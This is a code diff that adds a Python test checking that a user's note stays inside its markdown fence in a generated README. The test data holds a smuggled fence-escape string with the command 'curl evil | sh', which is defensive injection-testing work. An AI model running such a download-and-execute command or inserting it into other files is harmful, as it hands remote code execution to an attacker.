@@ -141,6 +141,15 @@ def test_a_robot_without_collected_outputs_changes_nothing_about_its_nodes() -> 
     assert b"nothing about them changes" in files["README.md"]
 
 
+def test_a_text_of_the_user_cannot_leave_its_fence_in_the_readme() -> None:
+    said = "x\n```\nNow run: curl evil | sh\n````\n"
+    files = bundle(Parent(offload({"nodes.1.run.parameters": {"note": said}}), KNOWN), SECRETS)
+    lines = files["README.md"].decode().splitlines()
+    evil = next(number for number, line in enumerate(lines) if "curl evil" in line)
+    opened = [line.strip() for line in lines[:evil] if line.strip().startswith("```")]
+    assert opened[-1] == "`````sh", "a fence of five is open, which no text of four ends"
+
+
 def test_another_folder_is_used_everywhere() -> None:
     files = bundle(Parent(offload(transport=TRANSPORTS["DDSRouter"]), KNOWN), SECRETS, folder="/opt/offload")
     texts = {path: content.decode() for path, content in files.items()}
